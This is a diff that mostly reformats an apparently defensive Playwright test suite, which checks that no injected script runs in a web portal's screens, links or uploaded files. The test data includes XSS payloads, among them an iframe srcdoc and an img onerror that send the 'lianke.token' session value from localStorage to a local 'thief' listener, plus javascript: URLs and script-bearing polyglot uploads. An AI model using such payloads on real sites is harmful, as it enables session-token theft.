@@ -31,7 +31,14 @@ const HOSTILE_URLS = [
   }),
   ...Object.keys(REDIRECTS).map(url => `${url.replace(/:\w+/g, hostile)}?probe=${hostile}`),
   // where no screen is: encoded, as it is, and as an address that runs
-  `/${hostile}`, `/no/such/page/${hostile}?from=${hostile}`, HOSTILE, `/${HOSTILE}`, 'javascript:ran()', '//elsewhere.example/', `/mall/index?${HOSTILE}`, `/mall/index?${hostile}=${hostile}`,
+  `/${hostile}`,
+  `/no/such/page/${hostile}?from=${hostile}`,
+  HOSTILE,
+  `/${HOSTILE}`,
+  'javascript:ran()',
+  '//elsewhere.example/',
+  `/mall/index?${HOSTILE}`,
+  `/mall/index?${hostile}=${hostile}`,
 ]
 
 /** The same with each parameter alone: one that makes no sense may keep a screen from looking at the others. */
@@ -41,19 +48,23 @@ const ONE_BY_ONE = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
 })
 
 /** Opens a URL in a running portal and waits until the screen has come to rest. */
-const show = (page: Page, url: string): Promise<string> => page.evaluate(async ({ hash, rest }) => {
-  location.hash = hash
-  const end = performance.now() + rest
-  let [before, calm] = ['', 0]
-  while (performance.now() < end && calm < 3) {
-    await new Promise(resolve => setTimeout(resolve, 40))
-    const pages = [...document.querySelectorAll('.taro_page')].filter(one => one.getClientRects().length > 0)
-    const now = `${location.hash} ${String(pages.at(-1)?.textContent?.length)}`
-    calm = now === before && pages.length === 1 && !pages[0]?.querySelector('.skeleton') ? calm + 1 : 0
-    before = now
-  }
-  return document.body.innerText
-}, { hash: url, rest: REST_MS })
+const show = (page: Page, url: string): Promise<string> =>
+  page.evaluate(
+    async ({ hash, rest }) => {
+      location.hash = hash
+      const end = performance.now() + rest
+      let [before, calm] = ['', 0]
+      while (performance.now() < end && calm < 3) {
+        await new Promise(resolve => setTimeout(resolve, 40))
+        const pages = [...document.querySelectorAll('.taro_page')].filter(one => one.getClientRects().length > 0)
+        const now = `${location.hash} ${String(pages.at(-1)?.textContent?.length)}`
+        calm = now === before && pages.length === 1 && !pages[0]?.querySelector('.skeleton') ? calm + 1 : 0
+        before = now
+      }
+      return document.body.innerText
+    },
+    { hash: url, rest: REST_MS },
+  )
 
 /** Opens each URL in one browser; resolves with what the screens said. `renew` sees to it that the person is still signed in. */
 async function showAll(phone: Phone, site: string, urls: readonly string[]): Promise<Map<string, string>> {
@@ -69,7 +80,9 @@ async function showAll(phone: Phone, site: string, urls: readonly string[]): Pro
         await page.goto(`${site}/#/language`)
       }
       // some URLs sign out
-      await page.evaluate(entries => { for (const { name, value } of entries) localStorage.setItem(name, value) }, items)
+      await page.evaluate(entries => {
+        for (const { name, value } of entries) localStorage.setItem(name, value)
+      }, items)
       shown.set(url, await show(page, url))
     }
     await page.close()
@@ -81,9 +94,18 @@ async function showAll(phone: Phone, site: string, urls: readonly string[]): Pro
 /** Receives what a script would carry away. */
 async function listen(): Promise<{ origin: string; got: string[]; stop(): void }> {
   const got: string[] = []
-  const server = http.createServer((request, answer) => { got.push(request.url ?? ''); answer.end() })
-  await new Promise<void>(resolve => { server.listen(0, '127.0.0.1', resolve) })
-  return { origin: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`, got, stop: () => server.close() }
+  const server = http.createServer((request, answer) => {
+    got.push(request.url ?? '')
+    answer.end()
+  })
+  await new Promise<void>(resolve => {
+    server.listen(0, '127.0.0.1', resolve)
+  })
+  return {
+    origin: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
+    got,
+    stop: () => server.close(),
+  }
 }
 
 describe('no script but ours runs in the page', { concurrency: false }, () => {
@@ -102,15 +124,23 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       const thief = await listen()
       const title = `<iframe srcdoc="<script>top.location='${thief.origin}/?t='+encodeURIComponent(parent.localStorage['lianke.token'])</script>"></iframe><img src=x onerror="location='${thief.origin}/?t='+localStorage['lianke.token']">`
       const article = idOf('mufeng article e4-dishwasher')
-      const [old] = await portal.db.select({ title: wikiTexts.title }).from(wikiTexts).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+      const [old] = await portal.db
+        .select({ title: wikiTexts.title })
+        .from(wikiTexts)
+        .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
       assert.ok(old)
-      await portal.db.update(wikiTexts).set({ title }).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+      await portal.db
+        .update(wikiTexts)
+        .set({ title })
+        .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
       try {
         const phone = await portal.signedIn({ bypassCSP })
         const found = await watch(phone.context, portal.url)
         for (const url of [`/wiki/wikiProductList?catalogId=${encodeURIComponent(title)}`, `/wiki/detail/${article}`]) {
           await phone.open(url, '?domainId=mufeng')
-          await eventually(async () => assert.ok((await phone.page.title()).startsWith(title), await phone.page.title()))
+          await eventually(async () =>
+            assert.ok((await phone.page.title()).startsWith(title), await phone.page.title()),
+          )
           // Taro took the title of the page that was left over to the next one
           await show(phone.page, '/mall/company/info')
           await phone.at('/mall/company/info')
@@ -119,13 +149,18 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
         assert.deepEqual([thief.got, found], [[], []])
         await phone.context.close()
       } finally {
-        await portal.db.update(wikiTexts).set({ title: old.title }).where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
+        await portal.db
+          .update(wikiTexts)
+          .set({ title: old.title })
+          .where(sql`${wikiTexts.wikiId} = ${article} and ${wikiTexts.language} = 'zh'`)
         thief.stop()
       }
     })
 
     test(`nothing in a link runs, on no screen, ${way}`, async t => {
-      const ways: [Phone, string[]][] = [[await portal.signedIn({ bypassCSP }), bypassCSP ? [...HOSTILE_URLS, ...ONE_BY_ONE] : HOSTILE_URLS]]
+      const ways: [Phone, string[]][] = [
+        [await portal.signedIn({ bypassCSP }), bypassCSP ? [...HOSTILE_URLS, ...ONE_BY_ONE] : HOSTILE_URLS],
+      ]
       if (bypassCSP) ways.push([await portal.visitor({ bypassCSP }), HOSTILE_URLS])
       for (const [phone, urls] of ways) {
         const found = await watch(phone.context, portal.url)
@@ -141,7 +176,10 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     test(`nothing in the address before the hash runs, ${way}`, async () => {
       const phone = await portal.visitor({ bypassCSP, kept: { domainId: '' } })
       const found = await watch(phone.context, portal.url)
-      for (const query of [`?domainId=${hostile}`, `?domainId=mufeng&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`]) {
+      for (const query of [
+        `?domainId=${hostile}`,
+        `?domainId=mufeng&from=${hostile}&code=${hostile}&state=${hostile}&token=${hostile}&${hostile}`,
+      ]) {
         await phone.page.goto('about:blank')
         await phone.page.goto(`${site}/${query}#/mall/index`)
         await show(phone.page, '/mall/index')
@@ -166,23 +204,45 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     })
   }
 
-  test('a file opened by itself runs nothing, and a PDF opens in the browser\'s own viewer', async () => {
+  test("a file opened by itself runs nothing, and a PDF opens in the browser's own viewer", async () => {
     const { as } = await portal.linkman()
     const phone = await portal.visitor()
     const found = await watch(phone.context, portal.url)
     const page = `<html><script>ran()</script><img src=x onerror="ran()">`
     const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>endobj\n${page}\ntrailer<</Root 1 0 R>>\n%%EOF`
-    const opened = await portal.ok('POST /ssp/file/upload', { ...as, file: { name: 'a.pdf', type: 'text/html', bytes: pdf } })
+    const opened = await portal.ok('POST /ssp/file/upload', {
+      ...as,
+      file: { name: 'a.pdf', type: 'text/html', bytes: pdf },
+    })
     await phone.page.goto(portal.url + opened.url)
     // Chromium's viewer is an extension that draws in a frame of its own
-    await eventually(async () => assert.ok(phone.page.frames().some(frame => frame.url().startsWith('chrome-extension://')), phone.page.frames().map(frame => frame.url()).join(' ')))
-    for (const [name, bytes] of [['a.mp3', Buffer.from(`ID3${page}`)], ['a.wav', Buffer.from(`RIFF\x24\0\0\0WAVE${page}`)], ['a.mp4', Buffer.from(`\0\0\0\x18ftypisom${page.padEnd(60)}`)]] as const) {
+    await eventually(async () =>
+      assert.ok(
+        phone.page.frames().some(frame => frame.url().startsWith('chrome-extension://')),
+        phone.page
+          .frames()
+          .map(frame => frame.url())
+          .join(' '),
+      ),
+    )
+    for (const [name, bytes] of [
+      ['a.mp3', Buffer.from(`ID3${page}`)],
+      ['a.wav', Buffer.from(`RIFF\x24\0\0\0WAVE${page}`)],
+      ['a.mp4', Buffer.from(`\0\0\0\x18ftypisom${page.padEnd(60)}`)],
+    ] as const) {
       const kept = await portal.ok('POST /ssp/file/upload', { ...as, file: { name, type: 'image/svg+xml', bytes } })
       await phone.page.goto(portal.url + kept.url)
-      assert.equal(await phone.page.evaluate(() => [document.images.length, document.scripts.length, self.origin].join()), '0,0,null', name)
+      assert.equal(
+        await phone.page.evaluate(() => [document.images.length, document.scripts.length, self.origin].join()),
+        '0,0,null',
+        name,
+      )
     }
     // the viewer is drawn by markup and scripts of the browser's own
-    assert.deepEqual(found.filter(one => !/application\/x-google-chrome-pdf|The Chromium Authors/.test(one)), [])
+    assert.deepEqual(
+      found.filter(one => !/application\/x-google-chrome-pdf|The Chromium Authors/.test(one)),
+      [],
+    )
     await phone.context.close()
   })
 
@@ -191,34 +251,66 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
     const found = await watch(phone.context, portal.url)
     await phone.page.goto(`${portal.url}/docs`)
     await phone.page.locator('.opblock').first().waitFor()
-    assert.deepEqual(found.filter(one => one.includes('policy')), [])
+    assert.deepEqual(
+      found.filter(one => one.includes('policy')),
+      [],
+    )
     await phone.context.close()
   })
 
   // last, because the texts stay as they are
   test('nothing that is stored runs, on no screen', async t => {
     const { as } = await portal.linkman()
-    const ids = async (query: ReturnType<typeof sql>): Promise<string[]> => (await portal.db.execute<{ id: string }>(query)).rows.map(one => one.id)
+    const ids = async (query: ReturnType<typeof sql>): Promise<string[]> =>
+      (await portal.db.execute<{ id: string }>(query)).rows.map(one => one.id)
     const tenant = idOf('mufeng tenant')
     const events = (await portal.ok('GET /ssp/event/list', { ...as, query: { state: 'all', pageSize: 50 } })).list
-    const finished = await ids(sql`select e.id from events e join evaluations v on v.event_id = e.id where e.tenant_id = ${tenant} limit 1`)
+    const finished = await ids(
+      sql`select e.id from events e join evaluations v on v.event_id = e.id where e.tenant_id = ${tenant} limit 1`,
+    )
     const columns = await writeHostileTexts(portal.db)
     t.diagnostic(`${String(columns.length)} columns: ${columns.join(' ')}`)
-    for (const column of ['wiki_texts.title', 'wiki_texts.content', 'events.title', 'events.attribute', 'event_records.content', 'products.name', 'ai_agents.name', 'doors.name', 'event_templates.name', 'event_templates.fields', 'rich_texts.title', 'rich_texts.content', 'wiki_files.filename', 'tenants.logo', 'linkmen.name']) assert.ok(columns.includes(column), column)
+    for (const column of [
+      'wiki_texts.title',
+      'wiki_texts.content',
+      'events.title',
+      'events.attribute',
+      'event_records.content',
+      'products.name',
+      'ai_agents.name',
+      'doors.name',
+      'event_templates.name',
+      'event_templates.fields',
+      'rich_texts.title',
+      'rich_texts.content',
+      'wiki_files.filename',
+      'tenants.logo',
+      'linkmen.name',
+    ])
+      assert.ok(columns.includes(column), column)
 
     /** What a parameter of a feature's screens may be, to show something. */
     const VALUES: Record<string, string[]> = {
-      'event id': [...events.slice(0, 4).map(one => one.id), ...finished], 'event state': ['all'], 'event templateId': await ids(sql`select id from event_templates where tenant_id = ${tenant}`),
-      'wiki id': await ids(sql`(select id from wikis where tenant_id = ${tenant} and format = 'html' limit 2) union all (select id from wikis where tenant_id = ${tenant} and format = 'markdown' limit 2) union all (select id from rich_texts where tenant_id = ${tenant})`),
-      'wiki keyword': [encodeURIComponent('洗碗机')], 'wiki typeIds': await ids(sql`select id from wiki_types where tenant_id = ${tenant} limit 2`), 'wiki productId': await ids(sql`select id from products where tenant_id = ${tenant} limit 2`),
-      'product id': await ids(sql`select id from products where tenant_id = ${tenant} limit 3`), 'assistant robotId': await ids(sql`select id from ai_agents where tenant_id = ${tenant}`),
+      'event id': [...events.slice(0, 4).map(one => one.id), ...finished],
+      'event state': ['all'],
+      'event templateId': await ids(sql`select id from event_templates where tenant_id = ${tenant}`),
+      'wiki id': await ids(
+        sql`(select id from wikis where tenant_id = ${tenant} and format = 'html' limit 2) union all (select id from wikis where tenant_id = ${tenant} and format = 'markdown' limit 2) union all (select id from rich_texts where tenant_id = ${tenant})`,
+      ),
+      'wiki keyword': [encodeURIComponent('洗碗机')],
+      'wiki typeIds': await ids(sql`select id from wiki_types where tenant_id = ${tenant} limit 2`),
+      'wiki productId': await ids(sql`select id from products where tenant_id = ${tenant} limit 2`),
+      'product id': await ids(sql`select id from products where tenant_id = ${tenant} limit 3`),
+      'assistant robotId': await ids(sql`select id from ai_agents where tenant_id = ${tenant}`),
     }
     const urls = (Object.keys(ROUTES) as RouteKey[]).flatMap(key => {
       const { page, query = [], pending } = routeOf(key)
       if (pending || key === '/login') return []
       const feature = page.split('/')[1] ?? ''
       const path = (id: string) => key.replace(/:\w+/g, id)
-      const own = [...(key.includes(':') ? ['id'] : []), ...query].flatMap(name => (VALUES[`${feature} ${name}`] ?? []).map(value => `${path(value)}?${name}=${value}`))
+      const own = [...(key.includes(':') ? ['id'] : []), ...query].flatMap(name =>
+        (VALUES[`${feature} ${name}`] ?? []).map(value => `${path(value)}?${name}=${value}`),
+      )
       return own.length ? own : [key]
     })
     for (const bypassCSP of [true, false]) {
@@ -227,7 +319,9 @@ describe('no script but ours runs in the page', { concurrency: false }, () => {
       const shown = await showAll(phone, site, urls)
       assert.deepEqual(found, [])
       const drawn = [...shown].filter(([, text]) => text.includes('lianke-canary'))
-      t.diagnostic(`${String(shown.size)} URLs; not drawn on ${[...shown.keys()].filter(url => !drawn.some(one => one[0] === url)).join(' ')}`)
+      t.diagnostic(
+        `${String(shown.size)} URLs; not drawn on ${[...shown.keys()].filter(url => !drawn.some(one => one[0] === url)).join(' ')}`,
+      )
       // the texts did reach the screens
       assert.ok(drawn.length > shown.size / 2, `${String(drawn.length)} of ${String(shown.size)}`)
       await phone.context.close()
